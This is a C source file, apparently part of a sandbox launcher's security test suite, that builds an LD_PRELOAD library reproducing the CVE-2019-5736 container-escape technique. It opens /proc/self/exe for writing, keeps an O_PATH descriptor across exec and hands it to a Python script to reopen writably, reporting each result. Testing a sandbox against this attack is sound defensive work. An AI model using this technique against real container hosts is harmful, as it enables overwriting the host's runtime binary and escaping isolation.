/* The CVE-2019-5736 attack of the trust area (TRUST §5 item 20), as a library a hostile image
 * would slip into the launcher's own binary: LD_PRELOAD of a process that is the launcher's image
 * run again inside the sandbox, through a script whose interpreter is #!/proc/self/exe.
 *
 * Its constructor, when NSSPEC_EXE_ATTACK is set (to how many seconds the reopen may keep trying
 * while the binary is busy; "0": once), prints "exe-attack NAME RESULT" lines:
 *   image       what /proc/self/exe names (the launcher's binary on the host, if the exec worked)
 *   open-write  open("/proc/self/exe", O_WRONLY): the binary while it runs
 *   open-path   an O_PATH fd of it, kept across the exec that follows
 * then execs `python3 /trust.py reopen FD /idle-copy SECONDS`, so that no process of the sandbox maps
 * the launcher's image any more, and that reopens the fd for writing (trust.py says how).
 *
 *   cc -shared -fPIC -o exe-attack.so exe-attack.c
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static const char *name(int e) {
    static char other[32];
    switch (e) {
    case ETXTBSY: return "ETXTBSY";
    case EACCES: return "EACCES";
    case EPERM: return "EPERM";
    case EROFS: return "EROFS";
    case ENOENT: return "ENOENT";
    }
    snprintf(other, sizeof other, "errno-%d", e);
    return other;
}

__attribute__((constructor)) static void attack(void) {
    const char *seconds = getenv("NSSPEC_EXE_ATTACK");
    if (!seconds) return;
    char retry[16];
    snprintf(retry, sizeof retry, "%s", seconds);
    unsetenv("NSSPEC_EXE_ATTACK");
    unsetenv("LD_PRELOAD");
    char image[4096] = "";
    ssize_t n = readlink("/proc/self/exe", image, sizeof image - 1);
    printf("exe-attack image %s\n", n > 0 ? image : name(errno));
    int fd = open("/proc/self/exe", O_WRONLY);
    printf("exe-attack open-write %s\n", fd >= 0 ? "ok" : name(errno));
    if (fd >= 0) close(fd);
    int path = open("/proc/self/exe", O_PATH);  /* not O_CLOEXEC: it survives the exec */
    printf("exe-attack open-path %s\n", path >= 0 ? "ok" : name(errno));
    fflush(stdout);
    if (path < 0) _exit(3);
    char number[16];
    snprintf(number, sizeof number, "%d", path);
    execl("/usr/bin/python3", "python3", "/trust.py", "reopen", number, "/idle-copy", retry, (char *)NULL);
    printf("exe-attack exec-python3 %s\n", name(errno));
    _exit(4);
}
